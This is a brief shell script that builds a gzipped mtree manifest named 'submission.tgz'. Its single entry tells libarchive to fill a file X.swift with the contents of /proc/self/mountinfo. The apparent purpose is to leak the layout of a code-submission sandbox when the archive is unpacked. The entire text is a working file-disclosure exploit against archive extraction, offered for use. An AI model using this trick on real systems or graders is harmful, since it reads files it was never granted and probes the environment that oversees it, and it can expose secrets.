# A list that libarchive would fill from what the sandbox is made of.
{
  echo '#mtree'
  echo './X.swift type=file contents=/proc/self/mountinfo mode=0644 size=4000'
} > list
gzip -c list > submission.tgz; rm list
